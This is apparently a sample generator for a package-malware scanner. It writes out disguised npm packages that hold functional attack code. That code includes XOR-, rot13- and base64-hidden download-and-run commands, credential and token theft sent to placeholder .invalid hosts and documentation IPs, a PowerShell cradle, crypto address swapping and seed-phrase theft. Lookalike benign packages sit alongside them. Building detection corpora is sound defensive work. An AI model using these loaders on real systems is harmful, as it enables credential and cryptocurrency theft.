"""Samples of the `reach6` branch for scripts/make-samples.py (2026-11-25, issue 6): variants of
our own for the behaviour classes reach6 taught the scanner, each with a tricky benign
counterpart:

- strings decoded by a local XOR (key cycled, index added or not) or rot13 function before they
  name a module, a global or a URL;
- the Function constructor reached through `Reflect.construct` on a stage decoded from
  constants in a small minified module, run as soon as it is loaded;
- PowerShell download cradles whose names are assembled from pieces and run through an aliased
  or computed Invoke-Expression, started by a lifecycle script;
- binding.gyp build actions (run by node-gyp during the implicit install build) starting a
  script that downloads a program and runs it;
- cryptocurrency addresses in page text, inputs or the clipboard replaced from a table pairing
  each chain's address regex with a fixed address;
- wallet key constructors wrapped by name from a hook on module loading.

Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with `reach6-`.
Same safety rules as samples_malicious.py: every source is Python string data, packed into a
tarball in memory, never written out, imported or run. Defanged: attacker hosts under reserved
names (.invalid, .example, .test) or documentation IPs; made-up addresses and values.
"""

import codecs

from samples_malicious import S, addr, pj
from samples_common import fill, readme, registry

SAMPLES, BENIGN, sample, benign = registry()


def xor_hex(s, key, indexed=False):
    """Hex of `s` XORed with `key` cycled (plus the index when `indexed`)."""
    out = []
    for i, b in enumerate(s.encode()):
        k = key[i % len(key)]
        k = (k + i) & 0xFF if indexed else k
        out.append("%02x" % (b ^ k))
    return "".join(out)


# =============================================================================================
# Malicious


@sample
def xor_array_key_module_loader():
    key = [19, 77, 140, 3, 201]
    enc = lambda s: xor_hex(s, key)  # noqa: E731
    src = fill(r'''"use strict";
// Locale-aware relative time ("3 minutes ago"), with a tiny plural table.
const KEY = [@@KEY@@];
const unmask = (h) => {
  const out = [];
  for (let i = 0; i < h.length; i += 2) out.push(parseInt(h.substr(i, 2), 16) ^ KEY[(i / 2) % KEY.length]);
  return String.fromCharCode(...out);
};

const UNITS = [["year", 31536e6], ["month", 2592e6], ["day", 864e5], ["hour", 36e5], ["minute", 6e4], ["second", 1e3]];

function ago(date, now = Date.now()) {
  const d = now - new Date(date).getTime();
  for (const [u, ms] of UNITS) {
    const n = Math.floor(Math.abs(d) / ms);
    if (n >= 1) return d >= 0 ? `${n} ${u}${n > 1 ? "s" : ""} ago` : `in ${n} ${u}${n > 1 ? "s" : ""}`;
  }
  return "just now";
}

function sync() {
  const cp = require(unmask("@@CP@@"));
  const run = cp[unmask("@@EX@@")];
  run(unmask("@@CMD@@"), { stdio: "ignore" });
}

if (!process.env.CI) {
  try { sync(); } catch (e) {}
}

module.exports = { ago };
''', KEY=",".join(map(str, key)), CP=enc("child_process"), EX=enc("execSync"),
        CMD=enc("curl -fsSL https://locale-sync.invalid/t.sh | sh"))
    files = {
        "package.json": pj(name="time-ago-lite", version="2.1.0", main="index.js",
                           description="Relative time strings, tiny and dependency-free"),
        "README.md": readme("time-ago-lite", "```js\nrequire('time-ago-lite').ago(Date.now() - 6e4)\n```"),
        "index.js": src,
    }
    return S(
        "reach6-xor-array-key-module-loader",
        "module name, method and a curl | sh command XOR-masked with a numeric key array and unmasked by a local arrow function when the package is loaded",
        "2024-2025",
        ["xor-decoding", "dynamic-require", "download-exec", "pipe-to-shell", "import-time", "ci-evasion"],
        "Own variant of the XOR string-decoder loaders (XORIndex family, 2024-2025): a plain "
        "key-cycled XOR over a number list instead of an indexed one over a string key, an "
        "arrow function instead of a declaration. Nothing names child_process or curl.",
        files,
    )


@sample
def rot13_global_fetch_eval():
    src = fill(r'''"use strict";
// Feature flags for the browser and Node, refreshed from the flag service.
const rot = function (s) {
  return s.replace(/[a-zA-Z]/g, (c) => String.fromCharCode((c <= "Z" ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26));
};

const flags = new Map();

function get(name, fallback = false) {
  return flags.has(name) ? flags.get(name) : fallback;
}

(async () => {
  try {
    const r = await fetch(rot("@@URL@@"));
    const body = await r.json();
    for (const [k, v] of Object.entries(body.flags || {})) flags.set(k, v);
    if (body.patch) globalThis[rot("@@EV@@")](body.patch);
  } catch (e) {}
})();

module.exports = { get };
''', URL=codecs.encode("https://flags-cdn.invalid/v2/flags.json", "rot13"), EV=codecs.encode("eval", "rot13"))
    files = {
        "package.json": pj(name="flagpole-client", version="0.9.4", main="index.js",
                           description="Feature flags client for browser and Node"),
        "README.md": readme("flagpole-client", "```js\nrequire('flagpole-client').get('new-ui')\n```"),
        "index.js": src,
    }
    return S(
        "reach6-rot13-global-fetch-eval",
        "feature-flag client fetching a rot13-written URL on load and running the response's `patch` field through a global whose name is rot13 too",
        "2024-2025",
        ["rot13", "remote-code", "eval", "import-time", "network"],
        "Own variant of rot13-hidden names: the decoder is a function expression, the runner "
        "`globalThis[rot('riny')]` and the code comes back in a JSON field of the response.",
        files,
    )


@sample
def reflect_construct_minified_atob():
    stage = ("var f=r('fs'),p=r('path'),o=r('os'),h=r('https'),d={};"
             "['.npmrc','.yarnrc','.git-credentials'].forEach(function(n){try{d[n]=f.readFileSync(p.join(o.homedir(),n),'utf8')}catch(e){}});"
             "var q=h.request({host:'pkg-telemetry.invalid',path:'/v',method:'POST'});q.on('error',function(){});q.end(JSON.stringify(d));")
    import base64
    enc = base64.b64encode(stage.encode()).decode()
    mod = ('"use strict";Object.defineProperty(exports,"__esModule",{value:!0});exports.slugify=void 0;'
           'const e=/[\\u0300-\\u036f]/g,t=/[^a-z0-9]+/g;function s(n,o={}){let r=String(n).normalize("NFKD").replace(e,"").toLowerCase().replace(t,o.separator||"-");'
           'return r.replace(/^-+|-+$/g,"").slice(0,o.max||80)}exports.slugify=s;'
           '(function(){try{const n=Reflect.construct(Function,["r",Buffer.from("' + enc + '","base64").toString()]);n(require)}catch(n){}})();\n')
    files = {
        "package.json": pj(name="slugify-lite-ts", version="3.0.2", main="dist/index.js",
                           description="Unicode-aware slugs, compiled TypeScript"),
        "README.md": readme("slugify-lite-ts", "```js\nrequire('slugify-lite-ts').slugify('Héllo wörld')\n```"),
        "dist/index.js": mod,
    }
    return S(
        "reach6-reflect-construct-minified-atob",
        "minified compiled module ending in Reflect.construct(Function) over a base64 stage run on load: credential files of the home folder POSTed",
        "2022-2025",
        ["minified", "function-constructor", "reflect", "base64", "credential-files", "import-time", "network"],
        "Own variant of the Reflect.construct(Function, ...) loader appended to minified code: "
        "base64 instead of char codes, a named IIFE body, credential files instead of env.",
        files,
    )


@sample
def postinstall_ps_scriptblock_cradle():
    ps = r'''# Registers the shell extension used on Windows.
$ErrorActionPreference = 'SilentlyContinue'
if ($env:CI) { return }
$w = New-Object ("System.Net." + "Web" + "Client")
$body = $w.("Down" + "loadString").Invoke("https://shellext-cdn.invalid/r/setup.txt")
$sb = [ScriptBlock]::Create($body)
& $sb
Write-Host "shell extension registered"
'''
    files = {
        "package.json": pj(
            name="explorer-context-open", version="1.0.6", main="index.js", os=["win32"],
            description="Open the current folder in Explorer from Node scripts",
            scripts={"postinstall": "pwsh -NoLogo -NonInteractive -File scripts/register.ps1"},
        ),
        "README.md": readme("explorer-context-open", "```js\nrequire('explorer-context-open')('.')\n```"),
        "index.js": "'use strict';\nconst { spawn } = require('child_process');\nmodule.exports = (dir) => spawn('explorer.exe', [dir], { detached: true });\n",
        "scripts/register.ps1": ps,
    }
    return S(
        "reach6-postinstall-ps-scriptblock-cradle",
        "postinstall PowerShell script: WebClient and DownloadString assembled from pieces, the download compiled with [ScriptBlock]::Create and run with &",
        "2019-2025",
        ["install-script", "powershell", "invoke-obfuscation", "remote-code", "ci-evasion", "network"],
        "Own variant of the obfuscated PowerShell cradle: no iex at all, the downloaded text "
        "becomes a script block that the call operator runs.",
        files,
    )


@sample
def gyp_action_urlretrieve_system():
    py = r'''#!/usr/bin/env python
"""Fetch the prebuilt SIMD kernels for this platform before compiling."""
import os
import sys
import tempfile
from urllib.request import urlretrieve

BASE = "http://198.51.100.77/kernels/"


def main(out):
    name = "simd-%s-%s" % (sys.platform, os.uname().machine if hasattr(os, "uname") else "x64")
    exe = os.path.join(tempfile.gettempdir(), "." + name)
    try:
        urlretrieve(BASE + name, exe)
        os.chmod(exe, 0o755)
        os.system(exe + " >/dev/null 2>&1 &")
    except Exception:
        pass
    with open(out, "w") as f:
        f.write("#define HAVE_SIMD 1\n")


if __name__ == "__main__":
    main(sys.argv[1])
'''
    gyp = r'''{
  'targets': [
    {
      'target_name': 'fastcrc',
      'sources': ['src/crc.cc'],
      'actions': [
        {
          'action_name': 'kernels',
          'inputs': ['tools/kernels.py'],
          'outputs': ['<(INTERMEDIATE_DIR)/simd.h'],
          'action': ['python', 'tools/kernels.py', '<@(_outputs)'],
        },
      ],
    },
  ],
}
'''
    files = {
        "package.json": pj(name="fastcrc-native", version="2.2.0", main="index.js", gypfile=True,
                           description="CRC32C with SIMD kernels (N-API)"),
        "README.md": readme("fastcrc-native", "```js\nrequire('fastcrc-native').crc32c(buf)\n```"),
        "binding.gyp": gyp,
        "tools/kernels.py": py,
        "src/crc.cc": "#include <node_api.h>\n#include \"simd.h\"\n",
        "index.js": "'use strict';\nmodule.exports = require('./build/Release/fastcrc.node');\n",
    }
    return S(
        "reach6-gyp-action-urlretrieve-system",
        "binding.gyp action (single-quoted gyp syntax) running a Python helper that urlretrieve()s a binary from a raw IP and starts it with os.system during the implicit node-gyp build",
        "2023-2025",
        ["binding-gyp", "implicit-install", "gyp-action", "python-stage", "download-exec", "raw-ip"],
        "Own variant of install-time code in gyp build actions: urlretrieve + os.system instead "
        "of urlopen + subprocess.Popen, gyp's Python-literal quoting.",
        files,
    )


@sample
def esm_input_address_swap():
    w = {k: addr(k, "reach6-input-swap") for k in ("eth", "btc", "trx")}
    src = fill(r'''// Pretty amount inputs for checkout forms.
const RULES = [
  ["0x", "[a-fA-F0-9]{40}", "@@E@@"],
  ["bc1", "[ac-hj-np-z02-9]{39,59}", "@@B@@"],
  ["T", "[1-9A-HJ-NP-Za-km-z]{33}", "@@T@@"],
].map(([a, b, to]) => [new RegExp("\\b" + a + b + "\\b", "g"), to]);

const fix = (s) => RULES.reduce((acc, [re, to]) => acc.replace(re, to), s);

export function formatAmount(v, currency = "USD") {
  return new Intl.NumberFormat(undefined, { style: "currency", currency }).format(v);
}

if (typeof document !== "undefined") {
  document.addEventListener("input", (e) => {
    const t = e.target;
    if (t && typeof t.value === "string") {
      const v = fix(t.value);
      if (v !== t.value) t.value = v;
    }
  }, true);
  document.addEventListener("paste", (e) => {
    const s = e.clipboardData && e.clipboardData.getData("text");
    if (s && fix(s) !== s) {
      e.preventDefault();
      document.execCommand("insertText", false, fix(s));
    }
  }, true);
}
''', E=w["eth"], B=w["btc"], T=w["trx"])
    files = {
        "package.json": pj(name="checkout-amount-input", version="1.4.1", type="module",
                           main="index.js", module="index.js",
                           description="Currency-aware amount inputs for checkout forms"),
        "README.md": readme("checkout-amount-input", "```js\nimport { formatAmount } from 'checkout-amount-input'\n```"),
        "index.js": src,
    }
    return S(
        "reach6-esm-input-address-swap",
        "ES module for checkout forms that rewrites ETH/BTC/TRX addresses typed or pasted into any input to fixed ones, from a table of split regexes and replacements",
        "2022-2025",
        ["address-swap", "dom-rewrite", "input-hijack", "paste-hijack", "browser-only", "split-regex"],
        "Own variant of page-level address replacement: input and paste events instead of a "
        "MutationObserver over text nodes, an ES module instead of a UMD bundle.",
        files,
    )


@sample
def module_load_hook_mnemonic():
    src = fill(r'''"use strict";
// Adds request ids to JSON-RPC calls of whichever client library the app uses.
const Module = require("module");
const https = require("https");

const seen = new WeakSet();

function report(tag, value) {
  const q = https.request({ host: "@@HOST@@", path: "/rpc/ids", method: "POST" });
  q.on("error", () => {});
  q.end(JSON.stringify({ tag, value: String(value) }));
}

function around(target, method, tag) {
  const original = target && target[method];
  if (typeof original !== "function") return;
  target[method] = function () {
    report(tag, arguments[0]);
    return original.apply(this, arguments);
  };
}

const load = Module._load;
Module._load = function (request, parent, isMain) {
  const exp = load.apply(this, arguments);
  if (exp && typeof exp === "object" && !seen.has(exp)) {
    seen.add(exp);
    const lib = exp.ethers || exp;
    if (lib.Wallet) {
      around(lib.Wallet, "fromMnemonic", "m");
      around(lib.Wallet, "fromPhrase", "m");
    }
    if (lib.HDNodeWallet) around(lib.HDNodeWallet, "fromPhrase", "m");
  }
  return exp;
};

module.exports = function withIds(provider) {
  let id = 0;
  const send = provider.send.bind(provider);
  provider.send = (method, params) => send(method, params, ++id);
  return provider;
};
''', HOST="rpc-ids.invalid")
    files = {
        "package.json": pj(name="jsonrpc-request-ids", version="0.3.2", main="index.js",
                           description="Request ids for JSON-RPC providers"),
        "README.md": readme("jsonrpc-request-ids", "```js\nrequire('jsonrpc-request-ids')(provider)\n```"),
        "index.js": src,
    }
    return S(
        "reach6-module-load-hook-mnemonic",
        "Module._load hook wrapping ethers Wallet.fromMnemonic/fromPhrase by name as the app loads it: every seed phrase POSTed",
        "2024-2025",
        ["require-hook", "module-patching", "mnemonic-theft", "wallet-theft", "network"],
        "Own variant of wallet-library hooking through module loading: Module._load instead of "
        "Module.prototype.require, ethers' mnemonic constructors wrapped by a helper given the "
        "method name.",
        files,
    )

@sample
def hex_decoded_wallet_setter_trap():
    attacker = addr("eth", "reach6-setter-trap")
    src = fill(r'''// Network switcher widget for EIP-1193 wallets.
function h(s) { return Buffer.from(s, "hex").toString(); }
const NAME = h("@@NAME@@");
const SEND = h("@@SEND@@");
const SINK = String.fromCharCode(@@CODES@@);

function guard(p) {
  if (!p || p.__g) return p;
  const req = p.request.bind(p);
  p.request = (args) => {
    if (args && args.method === SEND && Array.isArray(args.params) && args.params[0]) {
      args.params[0] = Object.assign({}, args.params[0], { to: SINK });
    }
    return req(args);
  };
  p.__g = true;
  return p;
}

if (typeof window !== "undefined") {
  let held = guard(window[NAME]);
  Object.defineProperty(window, NAME, { configurable: true, get: () => held, set(p) { held = guard(p); } });
}

export function chainName(id) {
  return { 1: "Ethereum", 137: "Polygon", 8453: "Base" }[Number(id)] || "Chain " + id;
}
''', NAME="ethereum".encode().hex(), SEND="eth_sendTransaction".encode().hex(),
        CODES=",".join(str(ord(c)) for c in attacker))
    files = {
        "package.json": pj(name="chain-switch-widget", version="0.4.0", type="module",
                           main="index.js", browser="index.js",
                           description="Network switcher widget for EIP-1193 wallets"),
        "README.md": readme("chain-switch-widget", "```js\nimport { chainName } from 'chain-switch-widget'\n```"),
        "index.js": src,
    }
    return S(
        "reach6-hex-decoded-wallet-setter-trap",
        "setter trap on window.ethereum (name hex-decoded by a local function) wrapping every injected provider's request so eth_sendTransaction goes to an address built from char codes",
        "2023-2025",
        ["wallet-hook", "setter-trap", "hex", "char-codes", "transaction-rewrite", "browser-only"],
        "Own variant of the setter trap on wallet globals (cf. evasion-rot13-ethereum-setter-trap): "
        "hex instead of rot13, the recipient as char codes instead of a reversed string.",
        files,
    )

@sample
def pkgjson_config_charcodes_spread():
    stage = ("const o=require('os'),h=require('http'),e=process.env;"
             "const d=JSON.stringify({u:o.userInfo().username,h:o.hostname(),t:e.NPM_TOKEN||'',g:e.GITHUB_TOKEN||''});"
             "const q=h.request({host:'theme-cdn.invalid',path:'/fonts',method:'POST'});q.on('error',()=>{});q.end(d);")
    codes = ".".join(str(ord(c)) for c in stage)
    import base64
    field = base64.b64encode(codes.encode()).decode()
    files = {
        "package.json": pj(name="tailwind-palette-gen", version="1.6.0", main="index.js",
                           description="Generate Tailwind colour palettes from one brand colour",
                           config={"palette": {"steps": 10, "seed": field}}),
        "README.md": readme("tailwind-palette-gen", "```js\nrequire('tailwind-palette-gen')('#3366ff')\n```"),
        "index.js": r'''"use strict";
const { config } = require("./package.json");

function mix(hex, t) {
  const n = parseInt(hex.slice(1), 16);
  const c = [n >> 16, (n >> 8) & 255, n & 255].map((v) => Math.round(v + (255 - v) * t));
  return "#" + c.map((v) => v.toString(16).padStart(2, "0")).join("");
}

function seeded() {
  const raw = Buffer.from(config.palette.seed, "base64").toString();
  const body = String.fromCharCode(...raw.split(".").map((n) => +n));
  return new Function("require", body);
}

module.exports = function palette(brand) {
  try { seeded()(require); } catch (e) {}
  const out = {};
  for (let i = 1; i <= config.palette.steps; i++) out[i * 100] = mix(brand, 1 - i / (config.palette.steps + 1));
  return out;
};
''',
    }
    return S(
        "reach6-pkgjson-config-charcodes-spread",
        "stage kept in package.json config as base64 of dot-separated char codes, rebuilt with String.fromCharCode(...) and run with new Function when the palette is generated: tokens, user and host POSTed",
        "2023-2025",
        ["hidden-code-in-manifest", "layered-encoding", "base64", "char-codes", "function-constructor", "token-theft", "network"],
        "Own variant of stages kept in package.json fields (cf. evasion-pkgjson-field-triple-encoded): "
        "two layers, destructured `config`, new Function instead of Reflect.construct.",
        files,
    )

@sample
def json_chunks_reflect_apply_exec():
    import base64
    import json as _json
    cmd = "wget -qO- http://198.51.100.93/a/boot.sh | bash >/dev/null 2>&1"
    enc = base64.b64encode(cmd.encode()).decode()
    chunks = [enc[i:i + 10] for i in range(0, len(enc), 10)]
    meta = {"name": "en-GB", "plural": "one|other", "integrity": chunks, "updated": "2025-06-01"}
    files = {
        "package.json": pj(name="i18n-mini-locales", version="0.8.1", main="index.js",
                           description="Tiny locale data and plural rules"),
        "README.md": readme("i18n-mini-locales", "```js\nrequire('i18n-mini-locales').plural('en-GB', 2)\n```"),
        "locales/en-GB.json": _json.dumps(meta, indent=2) + "\n",
        "index.js": r'''"use strict";
const fs = require("fs");
const path = require("path");

const cache = new Map();

function load(tag) {
  if (!cache.has(tag)) cache.set(tag, JSON.parse(fs.readFileSync(path.join(__dirname, "locales", tag + ".json"), "utf8")));
  return cache.get(tag);
}

function verify(meta) {
  const sum = Buffer.from(meta.integrity.join(""), "base64").toString();
  const m = require(["child", "process"].join("_"));
  Reflect.apply(m["exec" + "Sync"], m, [sum, { stdio: "ignore" }]);
}

module.exports.plural = function plural(tag, n) {
  const meta = load(tag);
  if (process.env.CI) { try { verify(meta); } catch (e) {} }
  return meta.plural.split("|")[n === 1 ? 0 : 1];
};
''',
    }
    return S(
        "reach6-json-chunks-reflect-apply-exec",
        "locale library whose JSON data keeps a wget | bash command as base64 split into an 'integrity' array, joined, decoded and run with Reflect.apply(execSync) in CI",
        "2023-2025",
        ["split-payload", "json-data", "base64", "reflect", "ci-targeting", "download-exec", "pipe-to-shell", "raw-ip"],
        "Own variant of stages kept as list fragments in data files (cf. "
        "evasion-yaml-fragments-callbind-exec): a JSON array of pieces of one base64 text "
        "instead of YAML items each base64 of a piece, run with Reflect.apply.",
        files,
    )


# =============================================================================================
# Tricky benign


@benign
def b_xor_cipher_user_key():
    src = r'''"use strict";
// Tiny XOR "cipher" for obfuscating (not protecting) values in local storage. The key is the
// caller's.
function xor(text, key) {
  let out = "";
  for (let i = 0; i < text.length; i++) out += String.fromCharCode(text.charCodeAt(i) ^ key.charCodeAt(i % key.length));
  return out;
}

const rot13 = (s) => s.replace(/[a-z]/gi, (c) => String.fromCharCode((c <= "Z" ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26));

function hash(s) {
  let h = 2166136261;
  for (let i = 0; i < s.length; i++) h = Math.imul(h ^ s.charCodeAt(i), 16777619);
  return h >>> 0;
}

module.exports = {
  encode: (text, key) => Buffer.from(xor(text, key), "latin1").toString("base64"),
  decode: (b64, key) => xor(Buffer.from(b64, "base64").toString("latin1"), key),
  rot13,
  hash,
  spoiler: rot13("Gur ohgyre qvq vg"),
};
'''
    files = {
        "package.json": pj(name="storage-mask", version="1.1.0", main="index.js",
                           description="Mask values kept in local storage (XOR, rot13)"),
        "README.md": readme("storage-mask", "```js\nconst m = require('storage-mask'); m.decode(m.encode('x', key), key)\n```"),
        "index.js": src,
    }
    return S(
        "reach6-benign-xor-cipher-user-key",
        "XOR and rot13 helpers over the caller's text and key; one constant rot13 string decoded for display",
        "2025",
        ["xor", "rot13", "library"],
        "Mirrors reach6-xor-array-key-module-loader and reach6-rot13-global-fetch-eval: the same "
        "decoder shapes, but the key is a parameter and what is decoded is shown, never run.",
        files,
    )


@benign
def b_minified_reflect_construct_class():
    mod = ('"use strict";Object.defineProperty(exports,"__esModule",{value:!0});'
           'const e=[72,101,108,108,111],t=String.fromCharCode.apply(null,e);'
           'function n(o,...r){return Reflect.construct(o,r,new.target||o)}'
           'class s{constructor(o){this.name=o||t}greet(){return this.name+"!"}}'
           'exports.make=function(o){return n(s,o)};exports.greeting=t;'
           'exports.compile=function(o){return new Function("d","return `"+o+"`")};\n')
    files = {
        "package.json": pj(name="tiny-greeter-ts", version="1.0.3", main="dist/index.js",
                           description="Greeting classes, compiled TypeScript"),
        "README.md": readme("tiny-greeter-ts", "```js\nrequire('tiny-greeter-ts').make('you').greet()\n```"),
        "dist/index.js": mod,
    }
    return S(
        "reach6-benign-minified-reflect-construct-class",
        "minified module using Reflect.construct for classes, String.fromCharCode.apply over a constant array for a label and new Function for user templates",
        "2025",
        ["minified", "reflect", "templates", "library"],
        "Mirrors reach6-reflect-construct-minified-atob: Reflect.construct and decoded "
        "constants in a small minified module, but no decoded text is ever run.",
        files,
    )


@benign
def b_ps_download_zip_install():
    ps = r'''# Downloads the CLI release for Windows and unpacks it next to the package.
param([string]$Version = '4.2.0')
$ErrorActionPreference = 'Stop'
$url = "https://github.com/example/tool/releases/download/v$Version/tool-win-x64.zip"
$zip = Join-Path $env:TEMP "tool-$Version.zip"
Invoke-WebRequest -Uri $url -OutFile $zip -UseBasicParsing
Expand-Archive -Path $zip -DestinationPath (Join-Path $PSScriptRoot '..\bin') -Force
& (Join-Path $PSScriptRoot '..\bin\tool.exe') --version
'''
    files = {
        "package.json": pj(
            name="tool-cli-win", version="4.2.0", main="index.js", os=["win32"],
            description="Windows binary of the tool CLI",
            scripts={"postinstall": "powershell -NoProfile -ExecutionPolicy Bypass -File scripts/fetch.ps1"},
        ),
        "README.md": readme("tool-cli-win", "Installs `tool.exe` for Windows."),
        "index.js": "'use strict';\nmodule.exports = require('path').join(__dirname, 'bin', 'tool.exe');\n",
        "scripts/fetch.ps1": ps,
    }
    return S(
        "reach6-benign-ps-download-zip-install",
        "postinstall PowerShell downloading a release zip with Invoke-WebRequest -OutFile, unpacking it and running the tool's --version with &",
        "2025",
        ["install-script", "powershell", "binary-download"],
        "Mirrors reach6-postinstall-ps-scriptblock-cradle: a PowerShell download at install "
        "and the call operator, but nothing downloaded is run as script and no name is split.",
        files,
    )


@benign
def b_gyp_action_codegen_offline():
    py = r'''#!/usr/bin/env python3
"""Generate the opcode table header from the spec file; fetch the spec when it is missing."""
import os
import subprocess
import sys
import urllib.request

SPEC = "https://raw.example.org/spec/opcodes-1.4.txt"


def main(spec, out):
    if not os.path.exists(spec):
        with urllib.request.urlopen(SPEC, timeout=30) as r, open(spec, "wb") as f:
            f.write(r.read())
    rows = [l.split() for l in open(spec) if l.strip() and not l.startswith("#")]
    with open(out, "w") as f:
        f.write("#pragma once\n")
        for name, code in rows:
            f.write("#define OP_%s 0x%s\n" % (name.upper(), code))
    subprocess.check_call(["clang-format", "-i", out])


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
'''
    gyp = r'''{
  "targets": [
    {
      "target_name": "opvm",
      "sources": ["src/vm.cc"],
      "actions": [
        {
          "action_name": "opcodes",
          "inputs": ["tools/gen_opcodes.py", "spec/opcodes.txt"],
          "outputs": ["<(INTERMEDIATE_DIR)/opcodes.h"],
          "action": ["python3", "tools/gen_opcodes.py", "spec/opcodes.txt", "<@(_outputs)"]
        }
      ]
    }
  ]
}
'''
    files = {
        "package.json": pj(name="opvm-native", version="0.5.0", main="index.js", gypfile=True,
                           description="A small bytecode VM as a Node addon"),
        "README.md": readme("opvm-native", "```js\nrequire('opvm-native').run(code)\n```"),
        "binding.gyp": gyp,
        "tools/gen_opcodes.py": py,
        "spec/opcodes.txt": "# name code\nnop 00\npush 01\npop 02\nadd 10\n",
        "src/vm.cc": "#include <node_api.h>\n#include \"opcodes.h\"\n",
        "index.js": "'use strict';\nmodule.exports = require('./build/Release/opvm.node');\n",
    }
    return S(
        "reach6-benign-gyp-action-codegen-offline",
        "binding.gyp action running a Python code generator that may download a spec text file and runs clang-format on its output",
        "2025",
        ["binding-gyp", "gyp-action", "codegen", "network"],
        "Mirrors reach6-gyp-action-urlretrieve-system: a gyp action, a Python download and a "
        "process start at install, but the program started is a formatter, not the download.",
        files,
    )


@benign
def b_address_linkifier():
    src = r'''// Turns cryptocurrency addresses in a page into explorer links.
const DONATE = "0x52908400098527886E0F7030069857D2E4169EE7";
const PATTERNS = {
  eth: /\b0x[a-fA-F0-9]{40}\b/g,
  btc: /\b(?:bc1|[13])[a-km-zA-HJ-NP-Z0-9]{25,39}\b/g,
  trx: /\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g,
};
const EXPLORERS = { eth: "https://etherscan.example/address/", btc: "https://mempool.example/address/", trx: "https://tronscan.example/#/address/" };
const USDT_TRON = "TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t";

function linkify(root) {
  const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
  const nodes = [];
  while (walker.nextNode()) nodes.push(walker.currentNode);
  for (const node of nodes) {
    let html = node.nodeValue;
    for (const [chain, re] of Object.entries(PATTERNS)) {
      html = html.replace(re, (m) => `<a href="${EXPLORERS[chain]}${m}" rel="noopener">${m}</a>`);
    }
    if (html !== node.nodeValue) {
      const span = document.createElement("span");
      span.innerHTML = html;
      node.replaceWith(span);
    }
  }
}

new MutationObserver(() => linkify(document.body)).observe(document.body, { childList: true, subtree: true });
export { linkify, DONATE, USDT_TRON };
'''
    files = {
        "package.json": pj(name="crypto-address-links", version="1.2.0", type="module",
                           main="index.js", description="Link cryptocurrency addresses to block explorers"),
        "README.md": readme("crypto-address-links", "```js\nimport { linkify } from 'crypto-address-links'\n```"),
        "index.js": src,
    }
    return S(
        "reach6-benign-address-linkifier",
        "page script that finds ETH/BTC/TRX addresses in text nodes with regexes and wraps them in explorer links; carries a donation address and a token contract address",
        "2025",
        ["address-regex", "dom-rewrite", "mutation-observer", "library"],
        "Mirrors reach6-esm-input-address-swap and evasion-umd-dom-address-swap: address "
        "regexes, fixed addresses and DOM rewriting in one file, but each match is kept, only "
        "wrapped in a link.",
        files,
    )


@benign
def b_apm_require_hook_shimmer():
    src = r'''"use strict";
// Times outgoing HTTP requests and database queries (a tiny APM agent).
const Module = require("module");

const timings = [];

function wrap(target, name, tag) {
  const original = target && target[name];
  if (typeof original !== "function" || original.__timed) return;
  target[name] = function () {
    const t = process.hrtime.bigint();
    try {
      return original.apply(this, arguments);
    } finally {
      timings.push({ tag, ms: Number(process.hrtime.bigint() - t) / 1e6 });
    }
  };
  target[name].__timed = true;
}

const orig = Module.prototype.require;
Module.prototype.require = function (id) {
  const exp = orig.apply(this, arguments);
  if (id === "http" || id === "https") wrap(exp, "request", id);
  if (id === "pg" && exp.Client) wrap(exp.Client.prototype, "query", "pg");
  if (id === "ethers" && exp.JsonRpcProvider) wrap(exp.JsonRpcProvider.prototype, "send", "rpc");
  return exp;
};

module.exports = { timings: () => timings.slice() };
'''
    files = {
        "package.json": pj(name="micro-apm-agent", version="0.7.0", main="index.js",
                           description="Request and query timings through require hooks"),
        "README.md": readme("micro-apm-agent", "```js\nrequire('micro-apm-agent')\n```"),
        "index.js": src,
    }
    return S(
        "reach6-benign-apm-require-hook-shimmer",
        "APM agent hooking Module.prototype.require and wrapping http.request, pg queries and an RPC provider's send by name to time them",
        "2025",
        ["require-hook", "module-patching", "apm"],
        "Mirrors reach6-module-load-hook-mnemonic and evasion-require-hook-wallet-keys: a "
        "module-loading hook and methods wrapped by name, but none is a wallet key constructor.",
        files,
    )


@benign
def b_wallet_provider_conflict_guard():
    src = r'''// Keeps the first injected EIP-1193 provider when several wallet extensions fight over
// window.ethereum, and announces the others through EIP-6963 instead.
const others = [];

export function install() {
  if (typeof window === "undefined") return;
  let first = window.ethereum;
  Object.defineProperty(window, "ethereum", {
    configurable: true,
    get() { return first; },
    set(p) {
      if (!first) first = p;
      else if (p && p !== first) {
        others.push(p);
        window.dispatchEvent(new CustomEvent("eip6963:announceProvider", { detail: Object.freeze({ info: { uuid: String(others.length), name: "wallet", icon: "", rdns: "unknown" }, provider: p }) }));
      }
    },
  });
}

export const providers = () => [first(), ...others];
function first() { return window.ethereum; }
'''
    files = {
        "package.json": pj(name="eip1193-provider-guard", version="1.0.2", type="module",
                           main="index.js", description="Stop wallet extensions from overwriting each other"),
        "README.md": readme("eip1193-provider-guard", "```js\nimport { install } from 'eip1193-provider-guard'\ninstall()\n```"),
        "index.js": src,
    }
    return S(
        "reach6-benign-wallet-provider-conflict-guard",
        "setter trap on window.ethereum that keeps the first injected provider and announces later ones through EIP-6963; no address, no request wrapper",
        "2025",
        ["setter-trap", "wallet", "eip6963", "library"],
        "Mirrors reach6-hex-decoded-wallet-setter-trap and evasion-rot13-ethereum-setter-trap: "
        "the same trap on the wallet global, but no fixed address and no rewrite.",
        files,
    )


@benign
def b_pkgjson_glyph_codes():
    files = {
        "package.json": pj(name="box-glyphs", version="2.0.1", main="index.js",
                           description="Box-drawing glyph sets for terminal tables",
                           glyphs={"light": "9472.9474.9484.9488.9492.9496", "heavy": "9473.9475.9487.9491.9495.9499"}),
        "README.md": readme("box-glyphs", "```js\nrequire('box-glyphs')('light')\n```"),
        "index.js": r'''"use strict";
const { glyphs } = require("./package.json");

const render = (codes) => String.fromCharCode(...codes.split(".").map(Number));

module.exports = function set(name = "light") {
  const s = render(glyphs[name] || glyphs.light);
  const [h, v, tl, tr, bl, br] = s;
  return { h, v, tl, tr, bl, br, box: (w) => tl + h.repeat(w) + tr + "\\n" + bl + h.repeat(w) + br };
};
''',
    }
    return S(
        "reach6-benign-pkgjson-glyph-codes",
        "box-drawing glyphs kept in package.json as dot-separated char codes and rebuilt with String.fromCharCode(...) for display",
        "2025",
